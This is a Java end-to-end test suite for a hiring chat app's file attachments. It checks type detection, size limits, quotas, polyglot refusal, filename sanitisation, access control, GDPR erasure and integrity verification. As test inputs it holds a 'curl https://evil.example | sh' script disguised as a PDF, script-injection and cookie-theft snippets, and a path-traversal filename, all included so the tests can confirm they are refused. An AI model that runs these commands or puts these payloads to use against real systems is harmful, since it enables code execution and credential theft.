package com.hirechat.infra;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.UUID;

import javax.imageio.ImageIO;

import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.hirechat.projections.TestDatabase;

/**
 * Attachments end to end on the real server and the embedded PostgreSQL (docs/attachments.md): upload, send, receive,
 * download and preview; every refusal with its code and nothing of a refused upload stored; access by participants
 * only; erasure.
 */
class AttachmentsTest {

    /** Small limits, so the limit tests need no large files (the defaults are pinned by AttachmentSettingsTest). */
    private static final long MAX = 1_000_000;
    private static final long QUOTA = 3_000_000;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    private static ChatApplication app;
    private static ApiClient api;
    private static Jdbi db;

    @BeforeAll
    static void start() {
        var database = TestServers.freshDatabase();
        db = Jdbi.create(TestDatabase.dataSource(database));
        app = TestServers.on(database, Map.of("HIRECHAT_ATTACHMENT_MAX_BYTES", Long.toString(MAX),
                "HIRECHAT_ATTACHMENT_QUOTA_BYTES", Long.toString(QUOTA),
                // retention is run by hand below; the job's first look finds nothing that old
                "HIRECHAT_RETENTION_DIRECT_DAYS", "30", "HIRECHAT_RETENTION_CHECK_INTERVAL", "P1D"));
        api = new ApiClient(app.uri());
    }

    @AfterAll
    static void stop() {
        app.close();
    }

    /** Two people in a direct conversation. */
    private record Pair(String seeker, String recruiter, String seekerToken, String recruiterToken, String conversation) {
    }

    private static Pair pair() {
        var seeker = "seeker-" + UUID.randomUUID().toString().substring(0, 8);
        var recruiter = "recruiter-" + UUID.randomUUID().toString().substring(0, 8);
        var seekerToken = api.login(seeker);
        return new Pair(seeker, recruiter, seekerToken, api.login(recruiter),
                api.startConversation(seekerToken, recruiter));
    }

    private record Answer(int status, Map<String, java.util.List<String>> headers, byte[] body) {

        JsonNode json() {
            try {
                return JSON.readTree(body);
            } catch (IOException e) {
                throw new AssertionError("not JSON: " + new String(body, StandardCharsets.UTF_8), e);
            }
        }

        String code() {
            return json().path("error").path("code").asText(null);
        }

        String header(String name) {
            return headers.entrySet().stream().filter(e -> e.getKey().equalsIgnoreCase(name))
                    .map(e -> e.getValue().getFirst()).findFirst().orElse(null);
        }

        @Override
        public String toString() {
            return status + " " + new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
        }
    }

    private static Answer upload(String token, String conversation, String name, byte[] bytes) {
        return send(HttpRequest.newBuilder(uploadUri(conversation, name))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/octet-stream")
                .POST(HttpRequest.BodyPublishers.ofByteArray(bytes)));
    }

    /** Without a Content-Length: the body arrives chunked, its size unknown until its end. */
    private static Answer uploadChunked(String token, String conversation, String name, byte[] bytes) {
        return send(HttpRequest.newBuilder(uploadUri(conversation, name))
                .header("Authorization", "Bearer " + token)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes))));
    }

    private static URI uploadUri(String conversation, String name) {
        return app.uri().resolve("api/conversations/" + conversation + "/attachments?name="
                + URLEncoder.encode(name, StandardCharsets.UTF_8).replace("+", "%20"));
    }

    private static Answer get(String token, String path) {
        return send(HttpRequest.newBuilder(app.uri().resolve(path)).header("Authorization", "Bearer " + token).GET());
    }

    private static Answer send(HttpRequest.Builder request) {
        try {
            var response = HTTP.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofByteArray());
            return new Answer(response.statusCode(), response.headers().map(), response.body());
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static String uploaded(Pair pair, String name, byte[] bytes) {
        var answer = upload(pair.seekerToken(), pair.conversation(), name, bytes);
        assertThat(answer.status()).as(answer.toString()).isEqualTo(201);
        return answer.json().path("id").asText();
    }

    private static long storedRows(String table) {
        return db.withHandle(h -> h.createQuery("SELECT count(*) FROM " + table).mapTo(Long.class).one());
    }

    private static long chunksOf(String conversation) {
        return db.withHandle(h -> h.createQuery("""
                        SELECT count(*) FROM attachment_chunks c JOIN attachment_blobs b USING (blob_id)
                         WHERE b.conversation_id = CAST(:c AS uuid)""")
                .bind("c", conversation).mapTo(Long.class).one());
    }

    /** Chunks of no file: what a refused or broken upload must not leave. */
    private static long strayChunks() {
        return db.withHandle(h -> h.createQuery("""
                        SELECT count(*) FROM attachment_chunks c
                         WHERE NOT EXISTS (SELECT 1 FROM attachment_blobs b WHERE b.blob_id = c.blob_id)""")
                .mapTo(Long.class).one());
    }

    @Test
    void aFileUploadedAndSentIsSeenByTheOtherSideWhoDownloadsItExactlyAndPreviewsARecodedImage() throws Exception {
        var pair = pair();
        var png = TestFiles.png(300, 200, 1);
        var answer = upload(pair.seekerToken(), pair.conversation(), "photo.png", png);
        assertThat(answer.status()).as(answer.toString()).isEqualTo(201);
        assertThat(answer.json().path("id").asText()).isEqualTo(TestFiles.sha256(png));
        assertThat(answer.json().path("type").asText()).isEqualTo("image/png");
        assertThat(answer.json().path("size").asLong()).isEqualTo(png.length);
        assertThat(answer.json().path("name").asText()).isEqualTo("photo.png");
        var id = answer.json().path("id").asText();

        // the bytes are stored sealed: no chunk holds the plaintext's first bytes
        var plainHead = Arrays.copyOf(png, 64);
        var ciphertexts = db.withHandle(h -> h.createQuery("""
                        SELECT ciphertext FROM attachment_chunks c JOIN attachment_blobs b USING (blob_id)
                         WHERE b.sha256 = :sha""").bind("sha", id).mapTo(byte[].class).list());
        assertThat(ciphertexts).isNotEmpty().allSatisfy(chunk ->
                assertThat(indexOf(chunk, plainHead)).isNegative());

        try (var recruiterSocket = WsClient.connect(api.base(), pair.recruiterToken())) {
            recruiterSocket.subscribe(pair.conversation());
            // a message may be only files: no text
            var sent = api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                    "{\"clientMessageId\":\"f-1\",\"attachments\":[\"" + id + "\"]}");
            assertThat(sent.status()).as(sent.body().toString()).isEqualTo(200);
            var frame = recruiterSocket.awaitFrame(f -> f.path("type").asText().equals("message")
                    && f.path("clientMessageId").asText().equals("f-1"));
            assertThat(frame.path("text").asText()).isEmpty();
            assertThat(frame.path("attachments")).hasSize(1);
            assertThat(frame.path("attachments").get(0).path("id").asText()).isEqualTo(id);
            assertThat(frame.path("attachments").get(0).path("name").asText()).isEqualTo("photo.png");
            assertThat(frame.path("attachments").get(0).path("type").asText()).isEqualTo("image/png");
        }

        // the history lists it once the read model has it; then the other side may download it
        await().atMost(Duration.ofSeconds(10)).until(() -> api.get("api/conversations/" + pair.conversation()
                + "/messages", pair.recruiterToken()).body().path("messages").path(0).path("attachments").size() == 1);
        var download = get(pair.recruiterToken(), "api/conversations/" + pair.conversation() + "/attachments/" + id);
        assertThat(download.status()).isEqualTo(200);
        assertThat(download.body()).isEqualTo(png);
        assertThat(download.header("Content-Type")).isEqualTo("image/png");
        assertThat(download.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"photo.png\"; filename*=UTF-8''photo.png");
        assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(download.header("Content-Security-Policy")).isEqualTo("default-src 'none'; sandbox");

        var preview = get(pair.recruiterToken(), "api/conversations/" + pair.conversation() + "/attachments/" + id
                + "/preview");
        assertThat(preview.status()).isEqualTo(200);
        assertThat(preview.header("Content-Type")).isEqualTo("image/png");
        assertThat(preview.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(preview.body()).as("re-encoded, never the upload").isNotEqualTo(png);
        var decoded = ImageIO.read(new ByteArrayInputStream(preview.body()));
        assertThat(decoded.getWidth()).isEqualTo(300);
        assertThat(decoded.getHeight()).isEqualTo(200);
    }

    @Test
    void theTypeIsTheContentsNotTheNamesAndEveryDefaultTypeIsAccepted() {
        var pair = pair();
        var script = upload(pair.seekerToken(), pair.conversation(), "cv.pdf",
                TestFiles.ascii("#!/bin/sh\ncurl https://evil.example | sh\n"));
        assertThat(script.status()).isEqualTo(415);
        assertThat(script.code()).isEqualTo("attachment_type_not_allowed");
        var html = upload(pair.seekerToken(), pair.conversation(), "photo.png",
                TestFiles.ascii("<html><script>alert(1)</script></html>"));
        assertThat(html.code()).isEqualTo("attachment_type_not_allowed");

        var pdfNamedText = upload(pair.seekerToken(), pair.conversation(), "cv.txt", TestFiles.pdf());
        assertThat(pdfNamedText.status()).as(pdfNamedText.toString()).isEqualTo(201);
        assertThat(pdfNamedText.json().path("type").asText()).isEqualTo("application/pdf");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "cv.docx", TestFiles.docx()).json().path("type")
                .asText()).isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "cv.odt", TestFiles.odt()).json().path("type")
                .asText()).isEqualTo("application/vnd.oasis.opendocument.text");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "me.jpg", TestFiles.jpeg(40, 30, 2)).json()
                .path("type").asText()).isEqualTo("image/jpeg");
        var webp = upload(pair.seekerToken(), pair.conversation(), "me.webp", TestFiles.WEBP).json();
        assertThat(webp.path("type").asText()).isEqualTo("image/webp");
        // a WebP is decoded (TwelveMonkeys) and previewed as a PNG; the uploader sees their unsent files' previews
        var preview = get(pair.seekerToken(), "api/conversations/" + pair.conversation() + "/attachments/"
                + webp.path("id").asText() + "/preview");
        assertThat(preview.status()).as(preview.toString()).isEqualTo(200);
        assertThat(preview.header("Content-Type")).isEqualTo("image/png");
        assertThat(strayChunks()).isZero();
    }

    @Test
    void oversizedAndEmptyFilesAreRefusedAndNothingOfThemIsStored() {
        var pair = pair();
        var big = TestFiles.png(620, 620, 3);
        assertThat(big.length).isGreaterThan((int) MAX);
        var declared = upload(pair.seekerToken(), pair.conversation(), "big.png", big);
        assertThat(declared.status()).isEqualTo(413);
        assertThat(declared.code()).isEqualTo("attachment_too_large");
        var chunked = uploadChunked(pair.seekerToken(), pair.conversation(), "big.png", big);
        assertThat(chunked.status()).isEqualTo(413);
        assertThat(chunked.code()).isEqualTo("attachment_too_large");

        var empty = upload(pair.seekerToken(), pair.conversation(), "nothing.pdf", new byte[0]);
        assertThat(empty.status()).isEqualTo(400);
        assertThat(empty.code()).isEqualTo("attachment_empty");

        assertThat(chunksOf(pair.conversation())).isZero();
        assertThat(strayChunks()).isZero();
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("SELECT count(*) FROM attachment_blobs WHERE owner_id = :o")
                .bind("o", pair.seeker()).mapTo(Long.class).one())).isZero();
    }

    @Test
    void aUserPastTheirQuotaIsRefusedAcrossConversations() {
        var pair = pair();
        var another = api.startConversation(pair.seekerToken(), "someone-" + UUID.randomUUID().toString().substring(0, 8));
        long stored = 0;
        int seed = 10;
        // files of ~900 KB: three fit in 3 MB, the fourth does not
        while (true) {
            var file = TestFiles.png(540, 540, seed++);
            var answer = upload(pair.seekerToken(), seed % 2 == 0 ? pair.conversation() : another, "f.png", file);
            if (stored + file.length > QUOTA) {
                assertThat(answer.status()).as(answer.toString()).isEqualTo(413);
                assertThat(answer.code()).isEqualTo("attachment_quota_exceeded");
                break;
            }
            assertThat(answer.status()).as(answer.toString()).isEqualTo(201);
            stored += file.length;
        }
        assertThat(strayChunks()).isZero();
        long used = stored;
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("SELECT sum(size) FROM attachment_blobs WHERE owner_id = :o")
                .bind("o", pair.seeker()).mapTo(Long.class).one())).isEqualTo(used);
        // the same bytes again take no more room
        var again = upload(pair.seekerToken(), another, "again.png", TestFiles.png(540, 540, 10));
        assertThat(again.status()).as(again.toString()).isEqualTo(201);
    }

    @Test
    void anUploadCutOffMidwayLeavesNothingStored() throws Exception {
        var pair = pair();
        var file = TestFiles.png(540, 540, 40);
        var sent = 600_000;
        try (var socket = new Socket(app.uri().getHost(), app.uri().getPort())) {
            OutputStream out = socket.getOutputStream();
            out.write(("POST /api/conversations/" + pair.conversation() + "/attachments?name=cut.png HTTP/1.1\r\n"
                    + "Host: localhost\r\nAuthorization: Bearer " + pair.seekerToken() + "\r\n"
                    + "Content-Type: application/octet-stream\r\nContent-Length: " + file.length + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.write(file, 0, sent);
            out.flush();
            // more than two chunks were sealed and written before the client went away
            await().atMost(Duration.ofSeconds(10)).until(() -> strayChunks() >= 2);
        }
        await().atMost(Duration.ofSeconds(10)).until(() -> strayChunks() == 0);
        assertThat(chunksOf(pair.conversation())).isZero();
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("SELECT count(*) FROM attachment_uploads WHERE uploader_id = :o")
                .bind("o", pair.seeker()).mapTo(Long.class).one())).isZero();
    }

    @Test
    void polyglotsAreRefused() {
        var pair = pair();
        var before = upload(pair.seekerToken(), pair.conversation(), "cv.pdf",
                TestFiles.concat(TestFiles.ascii("<html><body>hello</body></html>\n"), TestFiles.pdf()));
        // Tika finds the PDF header past the page; the rule is that nothing comes before it
        assertThat(before.status()).as(before.toString()).isEqualTo(415);
        assertThat(before.code()).isIn("attachment_polyglot", "attachment_type_not_allowed");
        var junkBefore = upload(pair.seekerToken(), pair.conversation(), "cv.pdf",
                TestFiles.concat(new byte[] {' ', '\n'}, TestFiles.pdf()));
        assertThat(junkBefore.status()).as(junkBefore.toString()).isEqualTo(415);

        var png = TestFiles.png(20, 20, 5);
        var appended = upload(pair.seekerToken(), pair.conversation(), "a.png",
                TestFiles.concat(png, TestFiles.ascii("PK\u0003\u0004 a zip rides along")));
        assertThat(appended.status()).isEqualTo(415);
        assertThat(appended.code()).isEqualTo("attachment_polyglot");
        var withScript = TestFiles.concat(Arrays.copyOf(png, png.length - 12),
                TestFiles.ascii("<SCRIPT>alert(document.cookie)</SCRIPT>"), Arrays.copyOfRange(png, png.length - 12, png.length));
        var scripted = upload(pair.seekerToken(), pair.conversation(), "b.png", withScript);
        assertThat(scripted.status()).isEqualTo(415);
        assertThat(scripted.code()).isEqualTo("attachment_polyglot");
        var jpeg = TestFiles.jpeg(20, 20, 6);
        var afterJpeg = upload(pair.seekerToken(), pair.conversation(), "c.jpg", TestFiles.concat(jpeg, new byte[] {1, 2, 3}));
        assertThat(afterJpeg.code()).isEqualTo("attachment_polyglot");
        var longWebp = upload(pair.seekerToken(), pair.conversation(), "d.webp", TestFiles.concat(TestFiles.WEBP,
                TestFiles.ascii("extra")));
        assertThat(longWebp.code()).isEqualTo("attachment_polyglot");
        assertThat(chunksOf(pair.conversation())).isZero();
        assertThat(strayChunks()).isZero();
    }

    @Test
    void namesLoseTheirPathsAndControlCharactersAndDownloadUnderASafeName() {
        var pair = pair();
        var pdf = TestFiles.pdf();
        assertThat(upload(pair.seekerToken(), pair.conversation(), "../../etc/passwd.pdf", pdf).json().path("name")
                .asText()).isEqualTo("passwd.pdf");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "C:\\Users\\me\\cv.pdf", pdf).json().path("name")
                .asText()).isEqualTo("cv.pdf");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "a\u0000b\nc\u202e.pdf", pdf).json().path("name")
                .asText()).isEqualTo("a_b_c_.pdf");
        assertThat(upload(pair.seekerToken(), pair.conversation(), "..hidden.pdf", pdf).json().path("name")
                .asText()).isEqualTo("hidden.pdf");
        var nothingLeft = upload(pair.seekerToken(), pair.conversation(), "../", pdf);
        assertThat(nothingLeft.status()).isEqualTo(400);
        assertThat(nothingLeft.code()).isEqualTo("invalid_attachment_name");
        var noName = send(HttpRequest.newBuilder(app.uri().resolve("api/conversations/" + pair.conversation()
                        + "/attachments")).header("Authorization", "Bearer " + pair.seekerToken())
                .POST(HttpRequest.BodyPublishers.ofByteArray(pdf)));
        assertThat(noName.code()).isEqualTo("missing_parameter");

        // a name beyond ASCII downloads under its own name (RFC 8187) with an ASCII fallback
        var id = uploaded(pair, "Lebenslauf \"Müller\"; 2026.pdf", pdf);
        var sent = api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                "{\"clientMessageId\":\"n-1\",\"text\":\"my CV\",\"attachments\":[\"" + id + "\"]}");
        assertThat(sent.status()).isEqualTo(200);
        await().atMost(Duration.ofSeconds(10)).until(() -> get(pair.recruiterToken(), "api/conversations/"
                + pair.conversation() + "/attachments/" + id).status() == 200);
        var download = get(pair.recruiterToken(), "api/conversations/" + pair.conversation() + "/attachments/" + id);
        assertThat(download.header("Content-Disposition")).isEqualTo(
                "attachment; filename=\"Lebenslauf _M_ller__ 2026.pdf\"; filename*=UTF-8''Lebenslauf%20_M%C3%BCller_%3B%202026.pdf");
        assertThat(download.header("Content-Type")).isEqualTo("application/pdf");
        var preview = get(pair.recruiterToken(), "api/conversations/" + pair.conversation() + "/attachments/" + id
                + "/preview");
        assertThat(preview.status()).isEqualTo(415);
        assertThat(preview.code()).isEqualTo("no_preview");
    }

    @Test
    void onlyParticipantsUploadAndDownloadAndOnlyTheirConversationsFiles() {
        var pair = pair();
        var outsider = api.login("outsider-" + UUID.randomUUID().toString().substring(0, 8));
        // the caller first: an outsider is refused whatever else is wrong with the request
        var upload = upload(outsider, pair.conversation(), "x.pdf", TestFiles.pdf());
        assertThat(upload.status()).isEqualTo(403);
        assertThat(upload.code()).isEqualTo("not_a_participant");
        var unnamed = send(HttpRequest.newBuilder(app.uri().resolve("api/conversations/" + pair.conversation()
                + "/attachments")).header("Authorization", "Bearer " + outsider)
                .POST(HttpRequest.BodyPublishers.ofByteArray(new byte[0])));
        assertThat(unnamed.code()).isEqualTo("not_a_participant");
        var anonymous = send(HttpRequest.newBuilder(uploadUri(pair.conversation(), "x.pdf"))
                .POST(HttpRequest.BodyPublishers.ofByteArray(TestFiles.pdf())));
        assertThat(anonymous.status()).isEqualTo(401);

        var id = uploaded(pair, "cv.pdf", TestFiles.pdf());
        api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                "{\"clientMessageId\":\"p-1\",\"attachments\":[\"" + id + "\"]}");
        var path = "api/conversations/" + pair.conversation() + "/attachments/" + id;
        await().atMost(Duration.ofSeconds(10)).until(() -> get(pair.recruiterToken(), path).status() == 200);
        assertThat(get(outsider, path).code()).isEqualTo("not_a_participant");
        assertThat(get(outsider, path + "/preview").code()).isEqualTo("not_a_participant");

        // the same file asked for through another conversation of the recruiter's
        var other = pair();
        var elsewhere = get(other.seekerToken(), "api/conversations/" + other.conversation() + "/attachments/" + id);
        assertThat(elsewhere.status()).isEqualTo(404);
        assertThat(elsewhere.code()).isEqualTo("unknown_attachment");
        // nor can it be sent from there
        var borrowed = api.post("api/conversations/" + other.conversation() + "/messages", other.seekerToken(),
                "{\"clientMessageId\":\"p-2\",\"attachments\":[\"" + id + "\"]}");
        assertThat(borrowed.status()).isEqualTo(400);
        assertThat(borrowed.errorCode()).isEqualTo("unknown_attachment");
        var badId = get(pair.recruiterToken(), "api/conversations/" + pair.conversation() + "/attachments/NOT-A-HASH");
        assertThat(badId.code()).isEqualTo("invalid_attachment_id");
        // the recipient cannot send the sender's upload as their own either
        var notTheirs = api.post("api/conversations/" + pair.conversation() + "/messages", pair.recruiterToken(),
                "{\"clientMessageId\":\"p-3\",\"attachments\":[\"" + id + "\"]}");
        assertThat(notTheirs.errorCode()).isEqualTo("unknown_attachment");
    }

    @Test
    void sendingRefusesUnknownIdsTooManyFilesAndAnEmptyMessageOverHttpAndTheSocket() {
        var pair = pair();
        var unknown = "0".repeat(64);
        var messages = "api/conversations/" + pair.conversation() + "/messages";
        assertThat(api.post(messages, pair.seekerToken(), "{\"clientMessageId\":\"u-1\",\"attachments\":[\"" + unknown
                + "\"]}").errorCode()).isEqualTo("unknown_attachment");
        assertThat(api.post(messages, pair.seekerToken(), "{\"clientMessageId\":\"u-2\",\"attachments\":[\"cv.pdf\"]}")
                .errorCode()).isEqualTo("invalid_attachment_id");
        assertThat(api.post(messages, pair.seekerToken(), "{\"clientMessageId\":\"u-3\",\"attachments\":\"x\"}")
                .errorCode()).isEqualTo("invalid_field");
        var eleven = JSON.createArrayNode();
        for (int i = 0; i < 11; i++) {
            eleven.add(unknown);
        }
        assertThat(api.post(messages, pair.seekerToken(), "{\"clientMessageId\":\"u-4\",\"attachments\":" + eleven + "}")
                .errorCode()).isEqualTo("too_many_attachments");
        assertThat(api.post(messages, pair.seekerToken(), "{\"clientMessageId\":\"u-5\",\"attachments\":[]}")
                .errorCode()).isEqualTo("missing_field");

        var id = uploaded(pair, "cv.pdf", TestFiles.pdf());
        try (var socket = WsClient.connect(api.base(), pair.seekerToken())) {
            socket.send("{\"type\":\"send\",\"conversationId\":\"" + pair.conversation()
                    + "\",\"clientMessageId\":\"w-1\",\"attachments\":[\"" + unknown + "\"]}");
            var refused = socket.awaitType("error");
            assertThat(refused.path("code").asText()).isEqualTo("unknown_attachment");
            assertThat(refused.path("clientMessageId").asText()).isEqualTo("w-1");
            socket.send("{\"type\":\"send\",\"conversationId\":\"" + pair.conversation()
                    + "\",\"clientMessageId\":\"w-2\",\"text\":\"here\",\"attachments\":[\"" + id + "\"]}");
            var ack = socket.awaitType("ack");
            assertThat(ack.path("clientMessageId").asText()).isEqualTo("w-2");
        }
        // a non-participant's send with files is refused as a non-participant, not for the files
        var outsider = api.login("outsider-" + UUID.randomUUID().toString().substring(0, 8));
        try (var socket = WsClient.connect(api.base(), outsider)) {
            socket.send("{\"type\":\"send\",\"conversationId\":\"" + pair.conversation()
                    + "\",\"clientMessageId\":\"w-3\",\"attachments\":[\"" + id + "\"]}");
            assertThat(socket.awaitType("error").path("code").asText()).isEqualTo("not_a_participant");
        }
    }

    @Test
    void aFormerParticipantKeepsTheFilesSentBeforeTheyLeftButNotLaterOnes() {
        var lead = "lead-" + UUID.randomUUID().toString().substring(0, 8);
        var leaver = "leaver-" + UUID.randomUUID().toString().substring(0, 8);
        var leadToken = api.login(lead);
        var leaverToken = api.login(leaver);
        var group = api.post("api/conversations", leadToken, "{\"participants\":[\"" + leaver + "\",\"third\"],"
                + "\"title\":\"Panel\"}").body().path("conversationId").asText();
        var before = TestFiles.pdf();
        var after = TestFiles.png(10, 10, 7);
        var beforeId = upload(leadToken, group, "before.pdf", before).json().path("id").asText();
        api.post("api/conversations/" + group + "/messages", leadToken,
                "{\"clientMessageId\":\"g-1\",\"attachments\":[\"" + beforeId + "\"]}");
        assertThat(api.delete("api/conversations/" + group + "/participants/" + leaver, leadToken).status())
                .isEqualTo(204);
        var afterId = upload(leadToken, group, "after.png", after).json().path("id").asText();
        api.post("api/conversations/" + group + "/messages", leadToken,
                "{\"clientMessageId\":\"g-2\",\"attachments\":[\"" + afterId + "\"]}");
        var thirdToken = api.login("third");
        await().atMost(Duration.ofSeconds(10)).until(() ->
                get(thirdToken, "api/conversations/" + group + "/attachments/" + afterId).status() == 200);
        var kept = get(leaverToken, "api/conversations/" + group + "/attachments/" + beforeId);
        assertThat(kept.status()).isEqualTo(200);
        assertThat(kept.body()).isEqualTo(before);
        var later = get(leaverToken, "api/conversations/" + group + "/attachments/" + afterId);
        assertThat(later.status()).isEqualTo(404);
        assertThat(later.code()).isEqualTo("unknown_attachment");
        // and they upload nothing any more
        assertThat(upload(leaverToken, group, "x.pdf", TestFiles.pdf()).code()).isEqualTo("not_a_participant");
    }

    @Test
    void erasingTheSenderMakesTheirFilesUnreadableAndRemovesThem() {
        var pair = pair();
        var id = uploaded(pair, "Zora Quintessa CV.pdf", TestFiles.pdf());
        api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                "{\"clientMessageId\":\"e-1\",\"attachments\":[\"" + id + "\"]}");
        var path = "api/conversations/" + pair.conversation() + "/attachments/" + id;
        await().atMost(Duration.ofSeconds(10)).until(() -> get(pair.recruiterToken(), path).status() == 200);
        // the name is sealed in the record like a text
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("""
                        SELECT count(*) FROM domain_event_entry WHERE convert_from(payload, 'UTF8') LIKE '%Quintessa%'""")
                .mapTo(Long.class).one())).isZero();

        var auditor = api.loginWithRoles("auditor", "compliance");
        var erased = api.post("api/compliance/users/" + pair.seeker() + "/erasure", auditor,
                "{\"reason\":\"GDPR Art. 17 request 2026-226\"}");
        assertThat(erased.status()).as(erased.body().toString()).isEqualTo(200);

        assertThat(chunksOf(pair.conversation())).isZero();
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("SELECT count(*) FROM attachment_uploads WHERE uploader_id = :u")
                .bind("u", pair.seeker()).mapTo(Long.class).one())).isZero();
        await().atMost(Duration.ofSeconds(10)).until(() -> get(pair.recruiterToken(), path).status() == 410);
        assertThat(get(pair.recruiterToken(), path).code()).isEqualTo("attachment_erased");
        var history = api.get("api/conversations/" + pair.conversation() + "/messages", pair.recruiterToken());
        var file = history.body().path("messages").get(0).path("attachments").get(0);
        assertThat(file.path("name").asText()).isEmpty();
        assertThat(file.path("erased").asBoolean()).isTrue();
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery("SELECT count(*) FROM message_attachments WHERE name LIKE '%Quintessa%'")
                .mapTo(Long.class).one())).isZero();
        // the record still verifies; the file is counted as erased, not as broken
        var verified = api.get("api/compliance/conversations/" + pair.conversation() + "/verify?reason=audit", auditor)
                .body();
        assertThat(verified.path("intact").asBoolean()).isTrue();
        assertThat(verified.path("filesIntact").asBoolean()).isTrue();
        assertThat(verified.path("files").path("erased").asInt()).isEqualTo(1);
    }

    @Test
    void retentionRemovesTheFilesOfAnExpiredConversation() {
        var pair = pair();
        var id = uploaded(pair, "cv.pdf", TestFiles.pdf());
        api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                "{\"clientMessageId\":\"r-1\",\"attachments\":[\"" + id + "\"]}");
        var path = "api/conversations/" + pair.conversation() + "/attachments/" + id;
        await().atMost(Duration.ofSeconds(10)).until(() -> get(pair.recruiterToken(), path).status() == 200);
        assertThat(chunksOf(pair.conversation())).isPositive();

        var run = app.compliance().run(java.time.Instant.now().plus(Duration.ofDays(31)), false, "CLI",
                java.util.Optional.empty());
        assertThat(run.expired()).contains(pair.conversation());

        assertThat(chunksOf(pair.conversation())).isZero();
        assertThat(db.<Long, RuntimeException>withHandle(h -> h.createQuery(
                        "SELECT count(*) FROM attachment_uploads WHERE conversation_id = CAST(:c AS uuid)")
                .bind("c", pair.conversation()).mapTo(Long.class).one())).isZero();
        var gone = get(pair.recruiterToken(), path);
        assertThat(gone.status()).isEqualTo(410);
        assertThat(gone.code()).isEqualTo("attachment_erased");
    }

    @Test
    void verifyChecksTheStoredBytesAgainstTheRecordAndNamesAnAlteredFile() {
        var pair = pair();
        var first = uploaded(pair, "a.pdf", TestFiles.pdf());
        var second = uploaded(pair, "b.png", TestFiles.png(600, 300, 8));
        api.post("api/conversations/" + pair.conversation() + "/messages", pair.seekerToken(),
                "{\"clientMessageId\":\"v-1\",\"text\":\"two files\",\"attachments\":[\"" + first + "\",\"" + second + "\"]}");
        var auditor = api.loginWithRoles("auditor", "compliance");
        var verifyPath = "api/compliance/conversations/" + pair.conversation() + "/verify?reason=audit";
        var clean = api.get(verifyPath, auditor).body();
        assertThat(clean.path("intact").asBoolean()).isTrue();
        assertThat(clean.path("filesIntact").asBoolean()).isTrue();
        assertThat(clean.path("files").path("checked").asInt()).isEqualTo(2);
        assertThat(clean.path("files").path("intact").asInt()).isEqualTo(2);

        // one byte of the second file's second chunk changed in the database
        db.useHandle(h -> h.createUpdate("""
                        UPDATE attachment_chunks SET ciphertext = set_byte(ciphertext, 5, get_byte(ciphertext, 5) # 1)
                         WHERE chunk_no = 1 AND blob_id = (SELECT blob_id FROM attachment_blobs WHERE sha256 = :sha)""")
                .bind("sha", second).execute());
        var altered = api.get(verifyPath, auditor).body();
        assertThat(altered.path("intact").asBoolean()).as("the chain itself holds").isTrue();
        assertThat(altered.path("filesIntact").asBoolean()).isFalse();
        assertThat(altered.path("files").path("intact").asInt()).isEqualTo(1);
        assertThat(altered.path("files").path("broken")).hasSize(1);
        assertThat(altered.path("files").path("broken").get(0).path("sha256").asText()).isEqualTo(second);
        assertThat(altered.path("files").path("broken").get(0).path("seq").asLong()).isEqualTo(1);
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }
}
